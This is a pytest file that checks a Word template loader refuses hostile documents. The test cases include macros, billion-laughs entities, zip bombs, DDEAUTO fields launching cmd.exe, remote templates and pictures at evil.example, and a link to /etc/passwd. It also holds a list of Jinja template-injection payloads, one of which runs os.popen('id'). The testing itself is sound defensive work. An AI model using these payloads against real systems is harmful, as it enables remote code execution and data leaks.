"""Templates that are none, are locked, or would run or fetch something: refused in plain words."""

import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest

from export.template import check_template, open_template
from export.word import render_draft
from records.errors import DraftError
from tests.export.houses import own_house, words_of
from tests.export.made_drafts import draft_of
from tests.export.templates import add_part, letterhead, rewrite, write_template

Spoil = Callable[[Path], object]

_RELATIONS = "word/_rels/document.xml.rels"
_LINK = (
    '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
    ' Target="{target}" TargetMode="External"/></Relationships>'
)


def _bytes(content: bytes) -> Spoil:
    return lambda path: path.write_bytes(content)


def _link(kind: str, target: str) -> Spoil:
    return lambda path: rewrite(path, _RELATIONS, "</Relationships>", _LINK.format(kind=kind, target=target))


def _body(markup: str) -> Spoil:
    return lambda path: rewrite(path, "word/document.xml", r"<w:sectPr", f"{markup}<w:sectPr")


def _field(code: str) -> str:
    return f'<w:p><w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r></w:p>'


def _in_runs(*codes: str) -> str:
    """Return a field whose code is cut into runs, one of which may be a whole field."""
    runs = "".join(code if code.startswith("<") else f"<w:instrText>{code}</w:instrText>" for code in codes)
    return f'<w:r><w:fldChar w:fldCharType="begin"/>{runs}<w:fldChar w:fldCharType="end"/></w:r>'


def _another_root(path: Path) -> None:
    rewrite(path, "word/document.xml", "<w:document ", "<w:body ")
    rewrite(path, "word/document.xml", "</w:document>", "</w:body>")


def _hidden(path: Path) -> None:
    """Call the document something that is no XML by its name: it would be taken for a picture."""
    with zipfile.ZipFile(path) as parts:
        known = {name: parts.read(name) for name in parts.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as parts:
        for name, content in known.items():
            told = (
                content.replace(b"document.xml", b"document.png") if b"document.xml" in content else content
            )
            parts.writestr(name.replace("document.xml", "document.png"), told)


def _entities(path: Path) -> None:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    declared = f'?><!DOCTYPE w [<!ENTITY l0 "ha">{laughs}]><w:document'
    rewrite(path, "word/document.xml", r"\?>\s*<w:document", declared)
    rewrite(path, "word/document.xml", "Lehtoranta", "&l9;")


def _bomb(path: Path) -> None:
    add_part(path, "word/bomb.xml", b"<a>" + b" " * 150_000_000 + b"</a>")


def _macros(path: Path) -> None:
    add_part(path, "word/vbaProject.bin", b"\xd0\xcf\x11\xe0")


def _docm(path: Path) -> None:
    rewrite(
        path,
        "[Content_Types].xml",
        r"application/vnd\.openxmlformats-officedocument\.wordprocessingml\.document\.main\+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )


def _headless(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as parts:
        parts.writestr("hello.txt", "hello")


_LONG = "".join(f"<w:p><w:r><w:t>Kappale {number} {number**5}</w:t></w:r></w:p>" for number in range(220_000))

_REFUSED: dict[str, tuple[Spoil, str]] = {
    "text": (_bytes(b"{{ content }}"), "something else"),
    "empty": (_bytes(b""), "empty"),
    "pdf": (_bytes(b"%PDF-1.7\n"), "a PDF"),
    "old Word": (_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600), ".doc"),
    "password": (
        _bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le")),
        "password",
    ),
    "cut off": (lambda path: path.write_bytes(path.read_bytes()[:5000]), "damaged"),
    "another zip": (_headless, "something else"),
    "macros": (_macros, "macros"),
    "docm": (_docm, "macros"),
    "entities": (_entities, "entities"),
    "bomb": (_bomb, "unfolds"),
    "broken markup": (lambda path: rewrite(path, "word/document.xml", "</w:body>", ""), "no XML"),
    "embedded object": (lambda path: add_part(path, "word/embeddings/oleObject1.bin", b"x"), "embedded"),
    "remote template": (_link("attachedTemplate", "https://evil.example/a.dotm"), "evil.example"),
    "template on a share": (_link("attachedTemplate", r"\\evil\share\a.dotm"), "evil"),
    "template by file address": (_link("attachedTemplate", "file://evil/share/a.dotm"), "evil"),
    "remote picture": (_link("image", "http://evil.example/pixel.png"), "evil.example"),
    "remote object": (_link("oleObject", "http://evil.example/x"), "evil.example"),
    "link to a file": (_link("hyperlink", "file:///etc/passwd"), "passwd"),
    "chunk of a web page": (_link("aFChunk", "x.html"), "x.html"),
    "data exchange": (_body(_field("DDEAUTO c:\\\\windows\\\\cmd.exe")), "DDEAUTO"),
    "field that fetches": (_body(_field(" INCLUDEPICTURE http://evil.example/a")), "INCLUDEPICTURE"),
    "field in pieces": (_body(_in_runs("DD", "EAU", "TO c:\\\\windows\\\\cmd.exe")), "DDEAUTO"),
    "field within a field": (
        _body(_in_runs("IF 1 = 1 ", _in_runs(" INCLUDE", "TEXT http://a.example"))),
        "INCLUDETEXT",
    ),
    "another root": (_another_root, "without text"),
    "a relation without a target": (
        lambda path: rewrite(path, _RELATIONS, 'Target="styles.xml"', ""),
        "lacks a part",
    ),
    "properties of another kind": (
        lambda path: rewrite(path, "[Content_Types].xml", r"core-properties\+xml", "extended-properties+xml"),
        "properties",
    ),
    "lists without numbers": (
        lambda path: rewrite(path, "word/numbering.xml", r'w:abstractNumId="\d+"', 'w:abstractNumId="x"'),
        "lists are damaged",
    ),
    "markup by another name": (_hidden, "XML by the name of something else"),
    "tag in a field": (_body(_field("DOCPROPERTY {{ title }}")), "outside the text"),
    "hundreds of pages": (_body(_LONG), "hundreds of pages"),
}


@pytest.mark.parametrize("case", _REFUSED)
def test_what_is_no_harmless_word_file_is_refused(case: str, tmp_path: Path) -> None:
    """The error names the file, what was found and what to do; check tells the same."""
    spoil, told = _REFUSED[case]
    path = letterhead(tmp_path / "pohja.docx")
    spoil(path)

    for read in (open_template, check_template):
        with pytest.raises(DraftError) as caught:
            read(path)
        assert caught.value.where == str(path)
        assert told in caught.value.found
        assert caught.value.advice


def test_a_file_that_is_not_there_is_told(tmp_path: Path) -> None:
    """A wrong path ends in an error, not in a traceback."""
    with pytest.raises(DraftError, match="No such file"):
        open_template(tmp_path / "none.docx")


_ATTACKS = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ title.__class__ }}",
    "{{ title['x'] }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum() }}",
    "{{ title|upper }}",
    "{{ 9 ** 999999999 }}",
    "{{ 'x' * 1000000000 }}",
    "{% for x in range(1000000000) %}{% endfor %}",
    "{% set x = 1 %}",
    "{% include 'x' %}",
    "{% macro x() %}{% endmacro %}",
    "{% if title == 'x' %}{% endif %}",
    "{% if title is defined %}{% endif %}",
    "{{ title if body else council }}",
    "{{ self }}",
)


@pytest.mark.parametrize("attack", _ATTACKS)
def test_nothing_but_fields_is_run(attack: str, tmp_path: Path) -> None:
    """No loop, call, attribute, filter or sum of Jinja: told as a mistake of its paragraph, and never run."""
    path = write_template(tmp_path / "pohja.docx", "Lehtoranta", attack, "{{ content }}")

    mistakes = check_template(path)

    assert [each.paragraph for each in mistakes] == [2] * len(mistakes)
    assert mistakes
    with pytest.raises(DraftError, match="paragraph 2"):
        open_template(path)


@pytest.mark.parametrize("attack", _ATTACKS)
def test_nothing_is_run_outside_the_text(attack: str, tmp_path: Path) -> None:
    """A picture's description and the like are read by the same closed rules."""
    markup = attack.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
    path = letterhead(tmp_path / "pohja.docx")
    _body(f'<w:p><w:bookmarkStart w:id="7" w:name="{markup}"/><w:bookmarkEnd w:id="7"/></w:p>')(path)

    with pytest.raises(DraftError):
        open_template(path)


def test_a_local_template_is_forgotten(tmp_path: Path) -> None:
    """Most files of a council were once made from its .dotm: its name is left out, and the rest used."""
    path = letterhead(tmp_path / "pohja.docx")
    relations = _LINK.format(kind="attachedTemplate", target="file:///C:\\Mallit\\kunta.dotm")
    start = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    add_part(path, "word/_rels/settings.xml.rels", (start + relations).encode())
    rewrite(path, "word/settings.xml", "<w:zoom", '<w:attachedTemplate r:id="rIdX"/><w:zoom')

    content = open_template(path).content

    assert b"kunta.dotm" not in content
    path.write_bytes(content)
    with zipfile.ZipFile(path) as parts:
        assert b"attachedTemplate" not in parts.read("word/settings.xml")
        assert b"kunta.dotm" not in parts.read("word/_rels/settings.xml.rels")


def test_a_long_template_is_used(tmp_path: Path) -> None:
    """Someone may have put the mark into a whole old agenda: sixty pages are slow, but they work."""

    def fill(document: docx.document.Document) -> None:
        for number in range(1500):
            document.add_paragraph(f"Kappale {number} " + "sana " * 20)

    house = own_house("finland-fi")
    template = open_template(letterhead(tmp_path / "pohja.docx", fill))
    content = render_draft(draft_of("finland-fi"), words_of(house), template)

    assert content.startswith(b"PK")
